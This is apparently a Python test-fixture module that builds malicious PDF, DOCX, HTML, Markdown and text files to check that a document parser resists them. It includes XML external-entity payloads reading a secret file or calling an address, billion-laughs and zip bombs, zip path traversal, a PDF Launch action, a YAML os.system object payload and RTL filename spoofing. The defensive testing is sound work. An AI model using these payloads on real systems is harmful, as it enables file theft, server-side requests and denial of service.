"""Files made to do harm, each small, by name. ``attacks`` builds them around a few canaries."""

from __future__ import annotations

import io
import zipfile
import zlib
from pathlib import Path

from documents.texts import TEXTS

MADE = Path(__file__).parents[1] / "documents" / "made"

_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships'
    '+xml"/><Default Extension="xml" ContentType="application/xml"/><Override'
    ' PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument'
    '.wordprocessingml.document.main+xml"/></Types>'
)
_RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)


def docx(body: str, *, before: str = "", more: dict[str, bytes] | None = None) -> bytes:
    """Return a DOCX file with ``body`` in its document part and what else is given."""
    document = f"{before}<w:document {_W}><w:body>{body}</w:body></w:document>"
    parts = {
        "[Content_Types].xml": _TYPES.encode(),
        "_rels/.rels": _RELATIONS.encode(),
        "word/document.xml": document.encode(),
        **(more or {}),
    }
    return packed(parts.items())


def packed(parts: object) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts:  # type: ignore[attr-defined]
            archive.writestr(name, data)
    return made.getvalue()


def paragraph(text: str, *, properties: str = "") -> str:
    return f"<w:p><w:r><w:rPr>{properties}</w:rPr><w:t>{text}</w:t></w:r></w:p>"


def pdf(content: str, *, pages: int = 1, more: tuple[str, ...] = ()) -> bytes:
    """Return a PDF file whose pages all show ``content``; ``more`` objects count from 6."""
    kids = " ".join(["3 0 R"] * pages)
    stream = content.encode("latin-1")
    objects = (
        "<< /Type /Catalog /Pages 2 0 R >>",
        f"<< /Type /Pages /Kids [{kids}] /Count {pages} >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        " /Resources << /Font << /F 5 0 R >> /XObject << /X 6 0 R >> >> >>",
        f"<< /Length {len(stream)} >>\nstream\n{content}\nendstream",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *more,
    )
    made = b"%PDF-1.7\n"
    starts = []
    for number, body in enumerate(objects, start=1):
        starts.append(len(made))
        made += f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1")
    table = "".join(f"{start:010} 00000 n \n" for start in starts)
    size = len(objects) + 1
    trailer = f"trailer << /Size {size} /Root 1 0 R >>\nstartxref\n{len(made)}\n%%EOF\n"
    return made + f"xref\n0 {size}\n0000000000 65535 f \n{table}{trailer}".encode()


def shown(text: str, *, at: int = 700, size: float = 12, before: str = "") -> str:
    return f"{before} BT /F {size} Tf 72 {at} Td ({text}) Tj ET\n"


def attacks(secret: Path, address: str) -> dict[str, bytes]:
    """Return hostile files by name; some try to read ``secret`` or to reach ``address``."""
    return {**_pdfs(secret), **_docxs(secret, address), **_pages(secret, address), **_texts()}


def _pdfs(secret: Path) -> dict[str, bytes]:
    whole = (MADE / "lighthouse.pdf").read_bytes()
    step = len(whole) // 21
    text = shown("The tide clock stands on the pier.")
    packed_zeros = zlib.compress(bytes(50_000_000), 9).decode("latin-1")
    bomb = (
        f"<< /Length {len(packed_zeros)} /Filter /FlateDecode /Type /XObject /Subtype /Form"
        f" /BBox [0 0 9 9] >>\nstream\n{packed_zeros}\nendstream"
    )
    own = (
        "<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>"
    )
    loop = f"{own} /Length 4 >>\nstream\n/X Do\nendstream"
    plain = pdf(text)
    return {
        **{f"cut-{at:02}.pdf": whole[: at * step] for at in range(1, 21)},
        "bomb.pdf": pdf(f"{text} /X Do", more=(bomb,)),
        "loop-form.pdf": pdf(f"{text} /X Do", more=(loop,)),
        "loop-pages.pdf": plain.replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]"),
        "loop-xref.pdf": plain.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev 9"),
        "many-pages.pdf": pdf(text, pages=2001),
        "claims-pages.pdf": plain.replace(b"/Count 1", b"/Count 999999999"),
        "deep.pdf": pdf(text, more=("[" * 100_000,)),
        "deep-content.pdf": pdf("[" * 100_000 + text),
        "huge-type.pdf": pdf(shown("Large", size=1e9)),
        "huge-page.pdf": plain.replace(b"[0 0 612 792]", b"[0 0 9e9 9e9]"),
        "white-on-huge.pdf": pdf(shown("unseen", before="1 g")).replace(
            b"[0 0 612 792]", b"[0 0 99999999 99999999]"
        ),
        "acts.pdf": plain.replace(
            b"/Type /Catalog",
            b"/Type /Catalog /OpenAction << /S /Launch /F (" + str(secret).encode() + b") >>",
        ),
        "locked.pdf": plain.replace(
            b"/Root 1 0 R",
            b"/Root 1 0 R /Encrypt << /Filter /Standard /V 1 /R 2 /P -1 /O (x) /U (y) >>",
        ),
        "noise.pdf": b"%PDF-1.7\n" + bytes(range(256)) * 200,
    }


def _docxs(secret: Path, address: str) -> dict[str, bytes]:
    entity = f'<!DOCTYPE d [<!ENTITY e SYSTEM "{secret.as_uri()}">]>'
    remote = f'<!DOCTYPE d [<!ENTITY e SYSTEM "{address}/entity">]>'
    outside = f'<!DOCTYPE d [<!ENTITY % e SYSTEM "{address}/dtd"> %e;]>'
    layers = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    laughs = f'<!DOCTYPE d [<!ENTITY e0 "ha">{layers}]>'
    linked = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/image" Target="{secret.as_uri()}" TargetMode="External"/></Relationships>'
    )
    picture = (
        '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/'
        '2006/wordprocessingDrawing"><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/'
        '2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
        ' r:link="r9"/></wp:inline></w:drawing></w:r></w:p>'
    )
    good = docx(paragraph("The mill turns."))
    lying = bytearray(docx(paragraph("a" * 3_000_000)))
    at = lying.rfind(b"PK\x01\x02", 0, lying.rfind(b"word/document.xml"))
    lying[at + 24 : at + 28] = (1000).to_bytes(4, "little")
    locked = bytearray(good)
    locked[locked.index(b"PK\x01\x02") + 8] |= 1
    table = "<w:tbl><w:tr><w:tc>" * 2000 + paragraph("deep") + "</w:tc></w:tr></w:tbl>" * 2000
    return {
        "bomb-node.docx": docx(paragraph("a" * 49_000_000)),
        "bomb-paragraphs.docx": docx(paragraph("a") * 400_000),
        "bomb-members.docx": docx(
            paragraph("many"), more={f"word/media/{n}.xml": b"<a/>" for n in range(2001)}
        ),
        "bomb-lying.docx": bytes(lying),
        "bomb-nested.docx": docx(
            paragraph("nest"), more={"word/media/a.zip": packed([("b", bytes(9_000_000))])}
        ),
        "bomb-itself.docx": packed([("word/document.xml", good), ("[Content_Types].xml", good)]),
        "bomb-sum.docx": docx("", more={f"word/{n}.bin": bytes(40_000_000) for n in range(3)}),
        "entity-file.docx": docx(paragraph("&e;"), before=entity),
        "entity-remote.docx": docx(paragraph("&e;"), before=remote),
        "entity-parameter.docx": docx(paragraph("x"), before=outside),
        "entity-laughs.docx": docx(paragraph("&e9;"), before=laughs),
        "entity-styles.docx": docx(
            paragraph("x"), more={"word/styles.xml": f"{entity}<a>&e;</a>".encode("utf-16")}
        ),
        "picture-outside.docx": docx(
            picture + paragraph("seen"), more={"word/_rels/document.xml.rels": linked.encode()}
        ),
        "climbs.docx": docx(paragraph("up"), more={"../../../climbed.xml": b"<a/>"}),
        "absolute.docx": docx(paragraph("up"), more={"/tmp/absolute.xml": b"<a/>"}),
        "odd-name.docx": docx(paragraph("odd"), more={"word/a\x01\u202e.xml": b"<a/>"}),
        "deep-table.docx": docx(table),
        "cut.docx": good[: len(good) // 2],
        "locked.docx": bytes(locked),
        "old.docx": b"\xd0\xcf\x11\xe0" + bytes(2000),
        "no-document.docx": packed([("[Content_Types].xml", _TYPES)]),
        "broken-xml.docx": docx("<w:p>"),
        "noise.docx": b"PK\x03\x04" + bytes(range(256)) * 100,
        "wrong-numbers.docx": docx(
            '<w:p><w:pPr><w:numPr><w:ilvl w:val="x"/><w:numId w:val="-9"/></w:numPr></w:pPr></w:p>'
        ),
    }


def _pages(secret: Path, address: str) -> dict[str, bytes]:
    entity = f'<!DOCTYPE html [<!ENTITY e SYSTEM "{secret.as_uri()}">]><p>&e; words</p>'
    layers = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    made = {
        "entity.html": entity,
        "laughs.html": f'<!DOCTYPE html [<!ENTITY e0 "ha">{layers}]><p>&e9; words</p>',
        "picture.html": f'<svg><image href="{secret.as_uri()}"/></svg><p>words</p>',
        "calls.html": f'<base href="{address}"><link rel="stylesheet" href="a.css"><script src='
        f'"{address}/a.js"></script><iframe src="{address}"></iframe><img src="{address}/a.png">'
        f'<meta http-equiv="refresh" content="0;url={address}"><p>words</p>',
        "deep.html": "<div>" * 100_000 + "words",
        "angles.html": "<" * 100_000 + "words",
        "attributes.html": "<p " + "a=b " * 100_000 + ">words",
        "open-tags.html": "<meta " * 50_000 + "<p>words",
        "json.html": '<script type="application/ld+json">' + "[" * 100_000 + "</script><p>words",
        "sheet.html": "<style>" + "a{" * 50_000 + "</style><p>words",
        "colours.html": '<p style="' + "color:#fff;" * 20_000 + '">words</p><p>more</p>',
        "date.html": "<time datetime='" + "9" * 100_000 + "'></time><p>words</p>",
    }
    found = {name: page.encode() for name, page in made.items()}
    return {
        **found,
        "charset.html": b'<meta charset="utf-7"><p>+ADw-script+AD4- words</p>',
        "odd-charset.html": b'<meta charset="unicode_escape"><p>\\ud800 \\x00 words</p>',
        "nul.html": b"<p>wo\0rds\0</p>" * 100,
    }


def _texts() -> dict[str, bytes]:
    line = " ".join(TEXTS["canal"].lines()).encode()
    return {
        "yaml-bomb.md": b"---\na: &a [x]\n" + b"b: [*a, *a]\n" * 1000 + b"---\nwords",
        "yaml-object.md": b"---\ntitle: !!python/object/apply:os.system [id]\n---\nwords",
        "yaml-deep.md": b"---\ntitle: " + b"[" * 5000 + b"\n---\nwords",
        "quotes.md": b">" * 20_000 + b" words",
        "brackets.md": b"[" * 30_000 + b"words",
        "stars.md": b"*a " * 30_000 + b"words",
        "ticks.md": b"".join(b"`" * n + b"a" for n in range(1, 400)),
        "tags.md": b"<a" * 30_000,
        "tables.md": b"|a" * 300 + b"\n" + b"|-" * 300 + b"\n" + b"|\n" * 800,
        "one-line.txt": line * 230,
        "one-word.txt": b"a" * 300_000,
        "items.txt": b"- a\n" * 100_001,
        "blank.txt": b"\n" * 500_000 + b"words",
        "halves.txt": b"\xed\xa0\x80 words \xed\xb0\x80",
        "turned.txt": "user\u202etxt.exe\u2066 words \U000e0041\ufe0f\ufe0f".encode(),
        "nul.txt": b"words\0" * 30 + b"more words of plain text " * 90,
        "utf-32.txt": b"\xff\xfe\0\0" + b"\xff" * 4000,
        "digits.txt": b"1 2 3 4 5 6 7 8 9 " * 6000,
        "markers.txt": b"word1 word2 word3 word4. " * 2500,
    }
